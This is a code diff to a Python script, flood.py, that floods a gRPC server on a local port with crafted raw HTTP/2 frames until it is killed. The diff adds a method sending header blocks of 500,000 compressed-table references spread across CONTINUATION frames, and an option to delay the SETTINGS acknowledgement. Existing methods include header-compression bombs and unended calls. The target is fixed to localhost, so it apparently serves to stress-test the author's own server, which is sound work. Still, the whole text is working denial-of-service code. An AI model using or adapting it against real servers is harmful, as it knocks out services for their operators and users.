@@ -1,7 +1,7 @@
-"""Attack a gRPC port without a token by raw HTTP/2 frames: `flood.py PORT WAY CONNECTIONS`, until killed.
+"""Attack a gRPC port without a token by raw HTTP/2 frames: `flood.py PORT WAY CONNECTIONS [ACK_SECONDS]`, until killed.
 
 Each connection has a thread that writes as fast as the server reads, and dials again when the server ends it. Most ways
-never read an answer.
+never read an answer. With ACK_SECONDS, each connection acknowledges the server's settings after that time.
 """
 
 import contextlib
@@ -14,11 +14,12 @@ from collections.abc import Iterator
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 DATA, HEADERS, SETTINGS, PING, CONTINUATION = 0, 1, 4, 6, 9
-END_STREAM, END_HEADERS = 0x1, 0x4
+ACK, END_STREAM, END_HEADERS = 0x1, 0x1, 0x4
 MAX_FRAME = 16_384
 LARGE = 4_000  # bytes; the dynamic table has 4,096
 NEWEST = b"\xbe"  # refers to the newest entry of the dynamic table
 BATCH = 50  # calls that are written at once
+ENTRIES = 500_000  # of one call
 
 
 def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
@@ -91,6 +92,16 @@ def many_fields() -> Iterator[bytes]:
         yield frame(CONTINUATION, 0, 1, fields[:MAX_FRAME])
 
 
+def entries() -> Iterator[bytes]:
+    """Calls with very many small entries, whose headers do end."""
+    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, request(METHOD) + literal(b"x", b"", indexed=True))
+    fields = [NEWEST * min(MAX_FRAME, ENTRIES - start) for start in range(0, ENTRIES, MAX_FRAME)]
+    for stream in itertools.count(3, 2):
+        frames = [frame(CONTINUATION, 0, stream, part) for part in fields[:-1]]
+        last = frame(CONTINUATION, END_HEADERS, stream, fields[-1])
+        yield frame(HEADERS, END_STREAM, stream, request(METHOD)) + b"".join(frames) + last
+
+
 def unended() -> Iterator[bytes]:
     """Calls that never end their request."""
     return bomb(references=0)
@@ -113,15 +124,20 @@ def pings() -> Iterator[bytes]:
 
 
 WAYS = {
-    way.__name__: way for way in (bomb, small_bomb, ended, continuation, endless, many_fields, unended, data, pings)
+    way.__name__: way
+    for way in (bomb, small_bomb, ended, continuation, endless, many_fields, entries, unended, data, pings)
 }
 
 
-def attack(port: int, way: str, sent: list[int]) -> None:
+def attack(port: int, way: str, acknowledge_after: float | None, sent: list[int]) -> None:
     """Attack without end; adds the bytes that were sent to `sent`."""
     while True:
         with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout=5) as connection:
             connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
+            if acknowledge_after is not None:
+                connection.recv(1)
+                time.sleep(acknowledge_after)
+                connection.sendall(frame(SETTINGS, ACK, 0))
             for chunk in WAYS[way]():
                 connection.sendall(chunk)
                 sent.append(len(chunk))
@@ -130,8 +146,9 @@ def attack(port: int, way: str, sent: list[int]) -> None:
 
 if __name__ == "__main__":
     sizes: list[int] = []
+    acknowledge = float(sys.argv[4]) if len(sys.argv) > 4 else None
     for _ in range(int(sys.argv[3])):
-        threading.Thread(target=attack, args=(int(sys.argv[1]), sys.argv[2], sizes), daemon=True).start()
+        threading.Thread(target=attack, args=(int(sys.argv[1]), sys.argv[2], acknowledge, sizes), daemon=True).start()
     while True:
         time.sleep(1)
         print(f"{sum(sizes)} bytes sent", file=sys.stderr, flush=True)
